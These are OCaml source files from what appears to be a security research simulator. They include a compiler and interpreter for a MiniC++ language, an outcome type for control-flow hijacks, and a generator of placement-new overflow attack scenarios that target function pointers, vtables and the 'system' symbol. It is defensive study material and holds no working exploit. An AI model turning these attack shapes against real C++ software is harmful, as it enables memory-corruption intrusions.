          Value.ptr ~ty ~tainted:v.Value.tainted
            (Value.as_bits v + (delta * sizeof_rt rt el))
        | t when Ctype.is_float t ->
          Value.float_ ~ty ~tainted:v.Value.tainted
            (Value.as_float v +. float_of_int delta)
        | _ -> Value.int_ ~ty ~tainted:v.Value.tainted (Value.as_int v + delta)
      in
      store_fast rt addr ty v';
      v'

and compile_binop ctx op a b =
  let ca = compile_expr ctx a in
  let cb = compile_expr ctx b in
  match op with
  | Ast.And ->
    fun rt ->
      tick rt;
      let va = ca rt in
      if not (Value.truthy va) then
        Value.int_ ~ty:Ctype.Bool ~tainted:va.Value.tainted 0
      else
        let vb = cb rt in
        Value.int_ ~ty:Ctype.Bool
          ~tainted:(va.Value.tainted || vb.Value.tainted)
          (if Value.truthy vb then 1 else 0)
  | Ast.Or ->
    fun rt ->
      tick rt;
      let va = ca rt in
      if Value.truthy va then
        Value.int_ ~ty:Ctype.Bool ~tainted:va.Value.tainted 1
      else
        let vb = cb rt in
        Value.int_ ~ty:Ctype.Bool
          ~tainted:(va.Value.tainted || vb.Value.tainted)
          (if Value.truthy vb then 1 else 0)
  | _ ->
    (* The op is fixed at compile time, so stage an int/int fast path per
       operator: when both operands are plain [Int] the strict table above
       reduces to signed 32-bit arithmetic with taint OR-ed — the operand
       bits are extracted by one pattern match and the result record built
       directly. Any other pairing (pointers, floats, unsigned promotion)
       falls back to [strict_binop], the transliterated reference. *)
    (* A literal right operand ([i < N], [i + 1], [x & mask]) is staged at
       compile time: its tick still fires in evaluation order, but no
       closure call or operand match is paid for it. *)
    let const_b =
      match b with Ast.Int k -> Some (Value.int_ k) | _ -> None
    in
    let arith (f : int -> int -> int) : cexpr =
      match const_b with
      | Some vk ->
        let kb = match vk.Value.prim with Value.I n -> n | Value.F _ -> 0 in
        fun rt ->
          tick rt;
          let va = ca rt in
          tick rt;
          (match va with
          | { Value.prim = Value.I x; ty = Ctype.Int; tainted } ->
            { Value.prim = Value.I (f x kb); ty = Ctype.Int; tainted }
          | _ -> strict_binop rt op va vk)
      | None -> (
        fun rt ->
          tick rt;
          let va = ca rt in
          let vb = cb rt in
          match (va, vb) with
          | ( { Value.prim = Value.I x; ty = Ctype.Int; tainted = ta },
              { Value.prim = Value.I y; ty = Ctype.Int; tainted = tb } ) ->
            { Value.prim = Value.I (f x y); ty = Ctype.Int; tainted = ta || tb }
          | _ -> strict_binop rt op va vb)
    in
    let cmp (f : int -> int -> bool) : cexpr =
      match const_b with
      | Some vk ->
        let kb = match vk.Value.prim with Value.I n -> n | Value.F _ -> 0 in
        fun rt ->
          tick rt;
          let va = ca rt in
          tick rt;
          (match va with
          | { Value.prim = Value.I x; ty = Ctype.Int; tainted } ->
            {
              Value.prim = Value.I (if f x kb then 1 else 0);
              ty = Ctype.Bool;
              tainted;
            }
          | _ -> strict_binop rt op va vk)
      | None -> (
        fun rt ->
          tick rt;
          let va = ca rt in
          let vb = cb rt in
          match (va, vb) with
          | ( { Value.prim = Value.I x; ty = Ctype.Int; tainted = ta },
              { Value.prim = Value.I y; ty = Ctype.Int; tainted = tb } ) ->
            {
              Value.prim = Value.I (if f x y then 1 else 0);
              ty = Ctype.Bool;
              tainted = ta || tb;
            }
          | _ -> strict_binop rt op va vb)
    in
    let s = Vmem.to_signed32 in
    let sigfpe () =
      raise (Interp.Halt (Outcome.Crashed "SIGFPE: division by zero"))
    in
    match op with
    | Ast.Add -> arith (fun x y -> (x + y) land 0xffffffff)
    | Ast.Sub -> arith (fun x y -> (x - y) land 0xffffffff)
    | Ast.Mul -> arith (fun x y -> s x * s y land 0xffffffff)
    | Ast.Div ->
      arith (fun x y ->
          let y = s y in
          if y = 0 then sigfpe () else s x / y land 0xffffffff)
    | Ast.Mod ->
      arith (fun x y ->
          let y = s y in
          if y = 0 then sigfpe () else s x mod y land 0xffffffff)
    | Ast.Lt -> cmp (fun x y -> s x < s y)
    | Ast.Le -> cmp (fun x y -> s x <= s y)
    | Ast.Gt -> cmp (fun x y -> s x > s y)
    | Ast.Ge -> cmp (fun x y -> s x >= s y)
    | Ast.Eq -> cmp (fun x y -> x = y)
    | Ast.Ne -> cmp (fun x y -> x <> y)
    | Ast.Band -> arith (fun x y -> x land y)
    | Ast.Bor -> arith (fun x y -> x lor y)
    | Ast.Shl -> arith (fun x y -> x lsl (y land 31) land 0xffffffff)
    | Ast.Shr -> arith (fun x y -> x lsr (y land 31))
    | Ast.And | Ast.Or ->
      fun rt ->
        tick rt;
        let va = ca rt in
        let vb = cb rt in
        strict_binop rt op va vb

(* Constructor call at [addr]: overload resolution (by arity, against the
   physical [p_funcs] entry) and the implicit-copy fallback are decided at
   compile time; argument evaluation stays runtime. *)
and compile_construct ctx cname args =
  match Ast.find_ctor ctx.x_prog cname ~arity:(List.length args) with
  | Some ctor ->
    let fi = func_index ctx ctor in
    let cargs = List.map (compile_expr ctx) args in
    let self = ctx.x_self in
    fun rt addr ->
      let this = Value.ptr ~ty:(Ctype.Ptr (Ctype.Class cname)) addr in
      let argv = List.map (fun ce -> ce rt) cargs in
      ignore (vinvoke rt ~caller:self fi (this :: argv))
  | None -> (
    match args with
    | [] -> fun _ _ -> ()
    | [ arg ] -> (
      let carg = compile_expr ctx arg in
      let size = Layout.sizeof ctx.x_env (Ctype.Class cname) in
      fun rt addr ->
        let v = carg rt in
        match v.Value.ty with
        | Ctype.Ptr (Ctype.Class _) | Ctype.Ptr Ctype.Void ->
          Vmem.blit ~tag:"copy-ctor" (Machine.mem rt.m) ~src:(Value.as_bits v)
            ~dst:addr ~len:size;
          Machine.install_vptrs rt.m ~addr ~cname
        | ty -> Interp.type_error "no constructor %s(%a)" cname Ctype.pp ty)
    | args ->
      let n = List.length args in
      fun _ _ -> Interp.type_error "no %d-argument constructor for %s" n cname)

(* ------------------------------------------------------------------ *)
(* Statement compilation                                               *)

(* Class- and char-array-typed stores transliterate [Interp.assign_into];
   the location's type is runtime (it may come from a cast or a looked-up
   variable), so the dispatch is too. *)
and compile_assign ctx e =
  let ce = compile_expr ctx e in
  fun rt (addr, ty) ->
    match ty with
    | Ctype.Class _ -> (
      let v = ce rt in
      match v.Value.ty with
      | Ctype.Ptr (Ctype.Class _) | Ctype.Ptr Ctype.Void ->
        Vmem.blit ~tag:"class-assign" (Machine.mem rt.m) ~src:(Value.as_bits v)
          ~dst:addr ~len:(sizeof_rt rt ty)
      | vty -> Interp.type_error "cannot assign %a to class lvalue" Ctype.pp vty)
    | Ctype.Array (Ctype.Char, n) -> (
      let v = ce rt in
      match v.Value.ty with
      | Ctype.Ptr Ctype.Char ->
        let s = Vmem.read_cstring (Machine.mem rt.m) (Value.as_bits v) in
        let len = min n (String.length s + 1) in
        Vmem.blit ~tag:"arr-init" (Machine.mem rt.m) ~src:(Value.as_bits v)
          ~dst:addr ~len
      | vty ->
        Interp.type_error "cannot initialize char array from %a" Ctype.pp vty)
    | _ -> store_fast rt addr ty (ce rt)

(* A branch condition: the engine only needs the truth of the value, so
   comparisons on plain ints skip building the [Bool] record entirely —
   same ticks, same operand evaluation, same fallbacks. *)
and compile_test ctx e : rt -> bool =
  match e with
  | Ast.Bin (((Ast.Lt | Ast.Le | Ast.Gt | Ast.Ge | Ast.Eq | Ast.Ne) as op), a, b)
    ->
    let ca = compile_expr ctx a in
    let cmp : int -> int -> bool =
      let s = Vmem.to_signed32 in
      match op with
      | Ast.Lt -> fun x y -> s x < s y
      | Ast.Le -> fun x y -> s x <= s y
      | Ast.Gt -> fun x y -> s x > s y
      | Ast.Ge -> fun x y -> s x >= s y
      | Ast.Eq -> fun x y -> x = y
      | Ast.Ne -> fun x y -> x <> y
      | _ -> assert false
    in
    (match b with
    | Ast.Int k ->
      let vk = Value.int_ k in
      let kb = match vk.Value.prim with Value.I n -> n | Value.F _ -> 0 in
      fun rt ->
        tick rt;
        let va = ca rt in
        tick rt;
        (match va with
        | { Value.prim = Value.I x; ty = Ctype.Int; _ } -> cmp x kb
        | _ -> Value.truthy (strict_binop rt op va vk))
    | _ ->
      let cb = compile_expr ctx b in
      fun rt ->
        tick rt;
        let va = ca rt in
        let vb = cb rt in
        (match (va, vb) with
        | ( { Value.prim = Value.I x; ty = Ctype.Int; _ },
            { Value.prim = Value.I y; ty = Ctype.Int; _ } ) ->
          cmp x y
        | _ -> Value.truthy (strict_binop rt op va vb)))
  | _ ->
    let ce = compile_expr ctx e in
    fun rt -> Value.truthy (ce rt)

type emitter = { mutable e_rev : instr list; mutable e_n : int }

let emit em i =
  em.e_rev <- i :: em.e_rev;
  em.e_n <- em.e_n + 1

let rec compile_stmt ctx em s =
  let fname = ctx.x_fname in
  let step rt =
    tick rt;
    match rt.on_stmt with Some f -> f fname s | None -> ()
  in
  match s with
  | Ast.Decl (name, ty, init) -> (
    let slot = Hashtbl.find ctx.x_slots name in
    match init with
    | None ->
      emit em
        (Do
           (fun rt ->
             step rt;
             let addr = Machine.alloc_local rt.m ~name ~ty in
             rt.slots.(slot) <- Some (addr, ty)))
    | Some e ->
      let asg = compile_assign ctx e in
      emit em
        (Do
           (fun rt ->
             step rt;
             let addr = Machine.alloc_local rt.m ~name ~ty in
             rt.slots.(slot) <- Some (addr, ty);
             asg rt (addr, ty))))
  | Ast.Decl_obj (name, cname, args) ->
    let slot = Hashtbl.find ctx.x_slots name in
    let ty = Ctype.Class cname in
    let cons = compile_construct ctx cname args in
    emit em
      (Do
         (fun rt ->
           step rt;
           let addr = Machine.alloc_local rt.m ~name ~ty in
           rt.slots.(slot) <- Some (addr, ty);
           Machine.install_vptrs rt.m ~addr ~cname;
           cons rt addr))
  | Ast.Assign (lv, e) -> (
    let asg = compile_assign ctx e in
    match lv with
    | Ast.Var name when Hashtbl.mem ctx.x_slots name ->
      (* the common store-to-local: read the slot inline instead of
         through the generic lvalue closure *)
      let slot = Hashtbl.find ctx.x_slots name in
      emit em
        (Do
           (fun rt ->
             step rt;
             let loc =
               match rt.slots.(slot) with
               | Some loc -> loc
               | None -> lookup_var_slow rt name
             in
             asg rt loc))
    | _ ->
      let clv = compile_lvalue ctx lv in
      emit em
        (Do
           (fun rt ->
             step rt;
             asg rt (clv rt))))
  | Ast.Expr e ->
    let ce = compile_expr ctx e in
    emit em
      (Do
         (fun rt ->
           step rt;
           ignore (ce rt)))
  | Ast.If (c, t, f) -> (
    let cc = compile_test ctx c in
    emit em (Do step);
    let else_ref = ref (-1) in
    emit em (Br (cc, else_ref));
    compile_block ctx em t;
    match f with
    | [] -> else_ref := em.e_n
    | _ ->
      let end_ref = ref (-1) in
      emit em (Jmp end_ref);
      else_ref := em.e_n;
      compile_block ctx em f;
      end_ref := em.e_n)
  | Ast.While (c, body) ->
    let cc = compile_test ctx c in
    emit em (Do step);
    let head = em.e_n in
    let exit_ref = ref (-1) in
    emit em (Br (cc, exit_ref));
    compile_block ctx em body;
    emit em (Jmp (ref head));
    exit_ref := em.e_n
  | Ast.For (init, c, stp, body) ->
    let cc = compile_test ctx c in
    emit em (Do step);
    Option.iter (compile_stmt ctx em) init;
    let head = em.e_n in
    let exit_ref = ref (-1) in
    emit em (Br (cc, exit_ref));
    compile_block ctx em body;
    Option.iter (compile_stmt ctx em) stp;
    emit em (Jmp (ref head));
    exit_ref := em.e_n
  | Ast.Return e -> (
    match e with
    | None ->
      emit em
        (Do
           (fun rt ->
             step rt;
             raise (Creturn None)))
    | Some e ->
      let ce = compile_expr ctx e in
      emit em
        (Do
           (fun rt ->
             step rt;
             raise (Creturn (Some (ce rt))))))
  | Ast.Delete e ->
    let ce = compile_expr ctx e in
    emit em
      (Do
         (fun rt ->
           step rt;
           Machine.free rt.m (Value.as_bits (ce rt))))
  | Ast.Delete_placed (e, ty) ->
    let ce = compile_expr ctx e in
    let placed_size = Layout.sizeof ctx.x_env ty in
    emit em
      (Do
         (fun rt ->
           step rt;
           Machine.delete_placed rt.m (Value.as_bits (ce rt)) ~placed_size))
  | Ast.Cout items ->
    let citems =
      List.map
        (fun item ->
          match item with
          | Ast.Str s -> `Lit s
          | e -> `Eval (compile_expr ctx e))
        items
    in
    emit em
      (Do
         (fun rt ->
           step rt;
           List.iter
             (fun ci ->
               match ci with
               | `Lit s -> Machine.print rt.m s
               | `Eval ce -> (
                 let v = ce rt in
                 match v.Value.ty with
                 | Ctype.Ptr Ctype.Char ->
                   Machine.print rt.m
                     (Vmem.read_cstring (Machine.mem rt.m) (Value.as_bits v))
                 | _ -> Machine.print rt.m (Value.to_string v)))
             citems))

and compile_block ctx em body = List.iter (compile_stmt ctx em) body

(* ------------------------------------------------------------------ *)
(* Whole-program compilation                                           *)

(* One slot per distinct local name: parameters first, then declarations
   in syntactic order. Re-declarations share the slot, so the most recent
   allocation wins — the same answer [Machine.lookup_var] gives. *)
let slot_table fn =
  let slots = Hashtbl.create 16 in
  let add name =
    if not (Hashtbl.mem slots name) then Hashtbl.add slots name (Hashtbl.length slots)
  in
  List.iter (fun (p, _) -> add p) fn.Ast.fn_params;
  Ast.fold_stmts
    (fun () s ->
      match s with
      | Ast.Decl (n, _, _) | Ast.Decl_obj (n, _, _) -> add n
      | _ -> ())
    (fun () _ -> ())
    () fn.Ast.fn_body;
  slots

let compile prog =
  let env = Interp.build_env prog in
  let funcs = Array.of_list prog.Ast.p_funcs in
  let index = Hashtbl.create 16 in
  Array.iteri
    (fun i fn ->
      if not (Hashtbl.mem index fn.Ast.fn_name) then
        Hashtbl.add index fn.Ast.fn_name i)
    funcs;
  let tables = Array.map slot_table funcs in
  let cfuncs =
    Array.mapi
      (fun i fn ->
        let slots = tables.(i) in
        {
          c_name = fn.Ast.fn_name;
          c_params =
            List.map (fun (p, ty) -> (Hashtbl.find slots p, p, ty)) fn.Ast.fn_params;
          c_nslots = Hashtbl.length slots;
          c_code = [||];
        })
      funcs
  in
  let u = { u_prog = prog; u_env = env; u_funcs = cfuncs; u_index = index } in
  Array.iteri
    (fun i fn ->
      let ctx =
        {
          x_u = u;
          x_env = env;
          x_prog = prog;
          x_funcs = funcs;
          x_self = i;
          x_fname = fn.Ast.fn_name;
          x_slots = tables.(i);
        }
      in
      let em = { e_rev = []; e_n = 0 } in
      compile_block ctx em fn.Ast.fn_body;
      cfuncs.(i).c_code <- Array.of_list (List.rev em.e_rev))
    funcs;
  u

(* ------------------------------------------------------------------ *)
(* Unit cache                                                          *)

(* Physical-identity LRU: catalogue attacks and prepared scenarios hold on
   to one program value, so [==] is both cheap and exact (structural
   equality could conflate distinct-but-identical genomes, which would be
   fine semantically but is not needed). *)
let cache_cap = 64
let cache_lock = Mutex.create ()
let cache : (Ast.program * t) list ref = ref []

let cached prog =
  Mutex.lock cache_lock;
  Fun.protect ~finally:(fun () -> Mutex.unlock cache_lock) @@ fun () ->
  match List.find_opt (fun (p, _) -> p == prog) !cache with
  | Some (_, u) ->
    cache := (prog, u) :: List.filter (fun (p, _) -> p != prog) !cache;
    u
  | None ->
    let u = compile prog in
    let rest =
      if List.length !cache >= cache_cap then
        List.filteri (fun i _ -> i < cache_cap - 1) !cache
      else !cache
    in
    cache := (prog, u) :: rest;
    u

let make_rt ?(max_steps = 2_000_000) ?(max_depth = 256) ?on_stmt ?on_tick m u =
  {
    m;
    mem = Machine.mem m;
    u;
    max_steps;
    max_depth;
    on_stmt;
    on_tick;
    steps = 0;
    depth = 0;
    pnew_counter = 0;
    slots = [||];
    faddr = Array.make (Array.length u.u_funcs + 1) (-1);
    sizeof_memo = Hashtbl.create 16;
    fld_memo = Hashtbl.create 16;
    meth_memo = Hashtbl.create 16;
  }
