(** The MiniC++ interpreter: compiled-C++ semantics (no implicit safety
    checks) over a {!Pna_machine.Machine} process image. *)

val build_env : Ast.program -> Pna_layout.Layout.env
(** Layout environment for the program's classes. *)

val libc_symbols : string list
(** Attack-target symbols present in every image ("system", ...). *)

val load :
  ?heap_size:int -> config:Pna_defense.Config.t -> Ast.program -> Pna_machine.Machine.t
(** Build the process image: register functions and libc symbols, emit
    vtables, allocate and initialize globals. *)

val run :
  ?max_steps:int ->
  ?max_depth:int ->
  ?on_stmt:(string -> Ast.stmt -> unit) ->
  ?on_tick:(int -> unit) ->
  Pna_machine.Machine.t ->
  Ast.program ->
  entry:string ->
  Outcome.t
(** Execute [entry] (usually ["main"]). Never raises: crashes, defense
    stops, hijacks, timeouts and OOM all surface as the outcome status.
    [max_steps] (default 2,000,000) bounds evaluated expressions +
    statements; exceeding it is the DoS outcome. [on_stmt] is invoked
    before every executed statement with the enclosing function's name —
    the hook behind {!Pna.Coverage}. [on_tick] is invoked with the step
    counter after every step — the chaos layer's spurious-fault hook;
    exceptions it raises surface like interpreter faults. *)

val execute :
  ?heap_size:int ->
  ?max_steps:int ->
  ?max_depth:int ->
  ?on_stmt:(string -> Ast.stmt -> unit) ->
  ?on_tick:(int -> unit) ->
  config:Pna_defense.Config.t ->
  ?input_ints:int list ->
  ?input_strings:string list ->
  ?entry:string ->
  Ast.program ->
  Outcome.t
(** [load] + set input + [run] in one call. *)
