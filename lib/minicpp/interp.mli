(** The MiniC++ interpreter: compiled-C++ semantics (no implicit safety
    checks) over a {!Pna_machine.Machine} process image.

    The exception vocabulary and the small semantic kernel below
    ([load_scalar], [store_scalar], [classify], [resolve_method],
    [builtin]) are shared with the bytecode engine ({!Compile}/{!Vm}),
    which must terminate and classify byte-identically. *)

exception Halt of Outcome.status
(** Abnormal termination carrying the outcome status; callers of {!run}
    never see it. *)

exception Not_lvalue
(** Raised when a syntactically non-lvalue expression is used where a
    location is required. *)

exception Type_error of string

val type_error : ('a, Format.formatter, unit, 'b) format4 -> 'a
(** Format-and-raise {!Type_error}. *)

val load_scalar : Pna_machine.Machine.t -> int -> Pna_layout.Ctype.t -> Value.t
val store_scalar :
  Pna_machine.Machine.t -> int -> Pna_layout.Ctype.t -> Value.t -> unit

val classify :
  Pna_machine.Machine.t ->
  via:Outcome.hijack_via ->
  target:int ->
  symbol:string option ->
  tainted:bool ->
  Outcome.status
(** What happens when hijacked control reaches [target]: arc injection
    for a known symbol, code injection (or the NX block) for a writable
    segment, a crash otherwise. *)

val resolve_method :
  Pna_layout.Layout.env -> string -> string -> Pna_layout.Class_def.meth
(** Resolve a method against a class, walking base classes; raises
    {!Type_error} when no class in the hierarchy defines it. *)

val builtin :
  Pna_machine.Machine.t -> string -> Value.t list -> Value.t option option
(** [builtin m name argv] dispatches on [(name, arity)]: [None] when the
    pair names no builtin, [Some result] otherwise (with [result = None]
    for void builtins). Shared verbatim by both engines so every libc
    model writes the same bytes under the same tags. *)

val is_builtin : string -> int -> bool
(** Does [(name, arity)] name a builtin? In lockstep with {!builtin}; the
    compiler uses it to pre-bind call sites. *)

val build_env : Ast.program -> Pna_layout.Layout.env
(** Layout environment for the program's classes. *)

val libc_symbols : string list
(** Attack-target symbols present in every image ("system", ...). *)

val load :
  ?heap_size:int -> config:Pna_defense.Config.t -> Ast.program -> Pna_machine.Machine.t
(** Build the process image: register functions and libc symbols, emit
    vtables, allocate and initialize globals. *)

val run :
  ?max_steps:int ->
  ?max_depth:int ->
  ?on_stmt:(string -> Ast.stmt -> unit) ->
  ?on_tick:(int -> unit) ->
  Pna_machine.Machine.t ->
  Ast.program ->
  entry:string ->
  Outcome.t
(** Execute [entry] (usually ["main"]). Never raises: crashes, defense
    stops, hijacks, timeouts and OOM all surface as the outcome status.
    [max_steps] (default 2,000,000) bounds evaluated expressions +
    statements; exceeding it is the DoS outcome. [on_stmt] is invoked
    before every executed statement with the enclosing function's name —
    the hook behind {!Pna.Coverage}. [on_tick] is invoked with the step
    counter after every step — the chaos layer's spurious-fault hook;
    exceptions it raises surface like interpreter faults. *)

val execute :
  ?heap_size:int ->
  ?max_steps:int ->
  ?max_depth:int ->
  ?on_stmt:(string -> Ast.stmt -> unit) ->
  ?on_tick:(int -> unit) ->
  config:Pna_defense.Config.t ->
  ?input_ints:int list ->
  ?input_strings:string list ->
  ?entry:string ->
  Ast.program ->
  Outcome.t
(** [load] + set input + [run] in one call. *)
