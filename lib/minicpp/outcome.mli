(** The observable result of running a MiniC++ program — the unit of
    measurement for every experiment. *)

type hijack_via = Return_address | Vtable | Function_pointer

val via_name : hijack_via -> string

type status =
  | Exited of int
  | Arc_injection of { via : hijack_via; symbol : string; tainted : bool }
      (** control redirected to an existing text symbol (§3.6.2) *)
  | Code_injection of { via : hijack_via; target : int; tainted : bool }
      (** control transferred into a writable segment *)
  | Crashed of string
  | Stack_smashing_detected  (** StackGuard terminated the program *)
  | Defense_blocked of string
  | Timeout of { steps : int }  (** interpreter budget exhausted: DoS *)
  | Out_of_memory
  | Internal_error of string
      (** the interpreter reached a state its own invariants rule out; a
          simulator bug, never a verdict about the program *)
  | Recovered of { attempts : int; final_attempt : int; exit_code : int }
      (** the chaos supervisor retried past injected transient faults and
          the program then ran to completion; [final_attempt] is the
          1-based index of the attempt that produced the verdict *)

type t = {
  status : status;
  events : Pna_machine.Event.t list;
  output : string list;
  steps : int;
}

val pp_status : Format.formatter -> status -> unit
val pp : Format.formatter -> t -> unit
val hijacked : t -> bool
val blocked : t -> bool
val exited_normally : t -> bool
