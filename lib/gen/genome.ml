(** The scenario genome: a compact, fully serializable description of one
    placement-new attack shape. Everything downstream — the MiniC++
    program, the attacker input, the catalogue entry — is a pure function
    of this value, so a corpus of genomes is a corpus of replayable
    scenarios.

    The grammar spans the paper's attack surface: class hierarchies of
    varying depth with or without vtables, arena geometries over every
    segment (declared buffers, whole objects, heap blocks, §3.5 internal
    placements where the declared extent is invisible), §4.1 repeated
    placement, overflow targets (adjacent member, function pointer,
    vtable pointer), and input scripts from straight field writes to
    attacker-counted loops and tainted-size memset. *)

module R = Pna_rand.Rand
module Wire = Pna_serial.Wire

type member = M_int | M_double | M_int_arr of int | M_char_arr of int

type arena =
  | A_stack_obj  (** place over a declared base-class local (§3.1) *)
  | A_stack_buf of int  (** local char buffer; payload = size delta *)
  | A_global_buf of int  (** bss char buffer; payload = size delta *)
  | A_heap_obj  (** place over a heap-allocated base object (§3.3) *)
  | A_heap_buf of int  (** heap char block; payload = size delta *)

(* the [int] payloads above are signed deltas relative to the derived
   class's footprint: negative = undersized arena (overflow), zero =
   exact, positive = oversized (benign placement with a stale tail) *)

type target = T_member | T_adjacent | T_funptr | T_vtable
type script = S_fields | S_loop | S_memset
type payload = P_junk | P_system

type t = {
  g_virtual : bool;
  g_depth : int;  (** 1: Base <- Deriv; 2: Base <- Mid <- Deriv *)
  g_base_members : member list;  (** head is always [M_int] *)
  g_extra : member list;  (** members the derived class adds *)
  g_arena : arena;
  g_internal_off : int;  (** >0: place into the buffer's interior (§3.5) *)
  g_place_count : int;  (** 2 = re-place and re-write (§4.1) *)
  g_target : target;
  g_script : script;
  g_guard : bool;  (** bound-check the attacker count before writing *)
  g_payload : payload;
  g_loop_n : int;  (** attacker-supplied count / memset length seed *)
}

(* -- random generation ------------------------------------------------ *)

let gen_member r =
  match R.int r 4 with
  | 0 -> M_int
  | 1 -> M_double
  | 2 -> M_int_arr (1 + R.int r 6)
  | _ -> M_char_arr (1 + R.int r 12)

let has_int_arr = List.exists (function M_int_arr _ -> true | _ -> false)

let generate r =
  let g_virtual = R.bool r in
  let g_target =
    match R.int r 4 with
    | 0 -> T_member
    | 1 -> T_adjacent
    | 2 -> T_funptr
    | _ -> if g_virtual then T_vtable else T_adjacent
  in
  let g_script =
    match R.int r 3 with 0 -> S_fields | 1 -> S_loop | _ -> S_memset
  in
  let g_base_members = M_int :: List.init (R.int r 3) (fun _ -> gen_member r) in
  let extras = List.init (1 + R.int r 3) (fun _ -> gen_member r) in
  let g_extra =
    if g_script = S_loop && not (has_int_arr extras) then
      M_int_arr (2 + R.int r 5) :: extras
    else extras
  in
  let delta =
    match R.int r 4 with
    | 0 -> -4 * (1 + R.int r 8)
    | 1 -> 0
    | 2 -> 4 * (1 + R.int r 8)
    | _ -> -R.int r 48
  in
  let g_arena =
    match R.int r 5 with
    | 0 -> A_stack_obj
    | 1 -> A_stack_buf delta
    | 2 -> A_global_buf delta
    | 3 -> A_heap_obj
    | _ -> A_heap_buf delta
  in
  let bufferish =
    match g_arena with
    | A_stack_buf _ | A_global_buf _ | A_heap_buf _ -> true
    | A_stack_obj | A_heap_obj -> false
  in
  let g_internal_off =
    if bufferish && R.int r 4 = 0 then 4 * (1 + R.int r 3) else 0
  in
  {
    g_virtual;
    g_depth = 1 + R.int r 2;
    g_base_members;
    g_extra;
    g_arena;
    g_internal_off;
    g_place_count = (if R.int r 5 = 0 then 2 else 1);
    g_target;
    g_script;
    g_guard = (match g_script with S_fields -> false | _ -> R.int r 3 = 0);
    g_payload = (if R.int r 6 = 0 then P_system else P_junk);
    g_loop_n = R.int r 25;
  }

(* -- binary codec ----------------------------------------------------- *)

let version = 1

(* signed deltas ride the unsigned wire word through a fixed bias *)
let bias = 0x8000
let w32 b n = Buffer.add_string b (Wire.le32 n)

let encode_member b = function
  | M_int -> w32 b 0
  | M_double -> w32 b 1
  | M_int_arr k ->
    w32 b 2;
    w32 b k
  | M_char_arr k ->
    w32 b 3;
    w32 b k

let encode_members b ms =
  w32 b (List.length ms);
  List.iter (encode_member b) ms

let encode g =
  let b = Buffer.create 96 in
  w32 b version;
  w32 b (if g.g_virtual then 1 else 0);
  w32 b g.g_depth;
  encode_members b g.g_base_members;
  encode_members b g.g_extra;
  (match g.g_arena with
  | A_stack_obj -> w32 b 0
  | A_stack_buf d ->
    w32 b 1;
    w32 b (d + bias)
  | A_global_buf d ->
    w32 b 2;
    w32 b (d + bias)
  | A_heap_obj -> w32 b 3
  | A_heap_buf d ->
    w32 b 4;
    w32 b (d + bias));
  w32 b g.g_internal_off;
  w32 b g.g_place_count;
  w32 b
    (match g.g_target with
    | T_member -> 0
    | T_adjacent -> 1
    | T_funptr -> 2
    | T_vtable -> 3);
  w32 b (match g.g_script with S_fields -> 0 | S_loop -> 1 | S_memset -> 2);
  w32 b (if g.g_guard then 1 else 0);
  w32 b (match g.g_payload with P_junk -> 0 | P_system -> 1);
  w32 b g.g_loop_n;
  Buffer.contents b

(* Total decoder: every malformed input is an [Error], never an
   exception — corpus files are external input. *)
let decode s =
  let pos = ref 0 in
  let err fmt = Fmt.kstr (fun m -> raise (Failure m)) fmt in
  let rd () =
    if !pos + 4 > String.length s then err "truncated at byte %d" !pos;
    let v = Wire.rd32 s !pos in
    pos := !pos + 4;
    v
  in
  let rd_bounded label hi =
    let v = rd () in
    if v > hi then err "%s out of range: %d" label v;
    v
  in
  let rd_member () =
    match rd () with
    | 0 -> M_int
    | 1 -> M_double
    | 2 -> M_int_arr (rd_bounded "array size" 4096)
    | 3 -> M_char_arr (rd_bounded "array size" 4096)
    | t -> err "bad member tag %d" t
  in
  let rd_members label =
    let n = rd_bounded label 64 in
    List.init n (fun _ -> rd_member ())
  in
  match
    let v = rd () in
    if v <> version then err "unsupported genome version %d" v;
    let g_virtual = rd () <> 0 in
    let g_depth = rd_bounded "depth" 2 in
    let g_base_members = rd_members "base member count" in
    let g_extra = rd_members "extra member count" in
    let g_arena =
      match rd () with
      | 0 -> A_stack_obj
      | 1 -> A_stack_buf (rd () - bias)
      | 2 -> A_global_buf (rd () - bias)
      | 3 -> A_heap_obj
      | 4 -> A_heap_buf (rd () - bias)
      | t -> err "bad arena tag %d" t
    in
    let g_internal_off = rd_bounded "internal offset" 4096 in
    let g_place_count = rd_bounded "place count" 4 in
    let g_target =
      match rd () with
      | 0 -> T_member
      | 1 -> T_adjacent
      | 2 -> T_funptr
      | 3 -> T_vtable
      | t -> err "bad target tag %d" t
    in
    let g_script =
      match rd () with
      | 0 -> S_fields
      | 1 -> S_loop
      | 2 -> S_memset
      | t -> err "bad script tag %d" t
    in
    let g_guard = rd () <> 0 in
    let g_payload =
      match rd () with
      | 0 -> P_junk
      | 1 -> P_system
      | t -> err "bad payload tag %d" t
    in
    let g_loop_n = rd_bounded "loop count" 1_000_000 in
    if !pos <> String.length s then err "%d trailing bytes" (String.length s - !pos);
    {
      g_virtual;
      g_depth = max 1 g_depth;
      g_base_members;
      g_extra;
      g_arena;
      g_internal_off;
      g_place_count = max 1 g_place_count;
      g_target;
      g_script;
      g_guard;
      g_payload;
      g_loop_n;
    }
  with
  | g -> Ok g
  | exception Failure m -> Error m

(* -- stable id -------------------------------------------------------- *)

(* FNV-1a over the encoded bytes: stable across OCaml versions, unlike
   [Hashtbl.hash] — corpus ids must not move under a compiler upgrade. *)
let fnv1a s =
  let h = ref 0x811c9dc5 in
  String.iter
    (fun c -> h := (!h lxor Char.code c) * 0x01000193 land 0xffffffff)
    s;
  !h

let id g = Fmt.str "gen-%08x" (fnv1a (encode g))

(* -- labels ----------------------------------------------------------- *)

let member_label = function
  | M_int -> "int"
  | M_double -> "double"
  | M_int_arr k -> Fmt.str "int[%d]" k
  | M_char_arr k -> Fmt.str "char[%d]" k

let arena_label = function
  | A_stack_obj -> "stack-obj"
  | A_stack_buf d -> Fmt.str "stack-buf%+d" d
  | A_global_buf d -> Fmt.str "bss-buf%+d" d
  | A_heap_obj -> "heap-obj"
  | A_heap_buf d -> Fmt.str "heap-buf%+d" d

let target_label = function
  | T_member -> "member"
  | T_adjacent -> "adjacent"
  | T_funptr -> "funptr"
  | T_vtable -> "vtable"

let script_label = function
  | S_fields -> "fields"
  | S_loop -> "loop"
  | S_memset -> "memset"

let summary g =
  Fmt.str "%s/%s/%s d%d%s%s%s%s n%d" (arena_label g.g_arena)
    (target_label g.g_target) (script_label g.g_script) g.g_depth
    (if g.g_virtual then " virt" else "")
    (if g.g_internal_off > 0 then Fmt.str " int@%d" g.g_internal_off else "")
    (if g.g_place_count > 1 then " x2" else "")
    (if g.g_guard then " guarded" else "")
    g.g_loop_n

let pp ppf g = Fmt.string ppf (summary g)

